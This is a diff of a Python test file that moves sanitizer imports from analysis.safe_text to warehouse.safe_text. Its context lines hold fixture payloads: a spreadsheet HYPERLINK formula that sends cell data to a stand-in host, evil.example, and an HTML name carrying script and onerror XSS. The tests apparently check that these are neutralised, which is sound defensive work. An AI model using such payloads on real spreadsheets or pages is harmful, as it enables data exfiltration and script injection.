@@ -19,14 +19,14 @@ import pytest
 from typer.testing import CliRunner
 
 from analysis.report import build as report_build
-from analysis.safe_text import (
+from cli import app
+from warehouse.safe_text import (
     code_span_text,
     csv_cell,
     csv_column_sql,
     markdown_text,
     terminal_text,
 )
-from cli import app
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HTML_NAME = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
@@ -174,7 +174,7 @@ class _Terminal(io.StringIO):
 
 
 def test_results_written_to_a_terminal_carry_no_escapes_but_pipes_get_the_bytes(monkeypatch):
-    from analysis.safe_text import write_stdout
+    from warehouse.safe_text import write_stdout
 
     csv = f"model\n{ESCAPE_NAME}\n"
     term = _Terminal()
